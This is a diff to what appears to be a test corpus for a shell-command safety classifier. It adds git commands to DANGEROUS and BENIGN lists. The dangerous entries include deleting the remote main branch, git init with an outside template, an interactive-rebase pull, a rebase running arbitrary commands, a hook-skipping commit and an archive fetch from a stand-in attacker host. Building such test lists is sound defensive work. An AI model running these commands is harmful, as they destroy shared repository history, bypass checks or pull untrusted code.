@@ -311,6 +311,11 @@ export const DANGEROUS: CorpusClass[] = [
       'git archive --remote=https://evil.example.com/x.git HEAD',
       'git commit --no-verify -m x',
       'git rebase --exec "id" HEAD~1',
+      'git init --template=/tmp/t',
+      'git init ../x',
+      'git push origin --delete main',
+      'git push origin :main',
+      'git pull origin --rebase=interactive',
     ],
   },
   {
@@ -630,6 +635,8 @@ export const BENIGN: string[] = [
   'git config user.name "Agent"',
   'git merge feature/login',
   'git tag v0.1.0',
+  'git init .',
+  'git push origin HEAD:main',
   'git log -p -- src/a.ts',
   'git grep -n "TODO"',
   // Servers and processes.
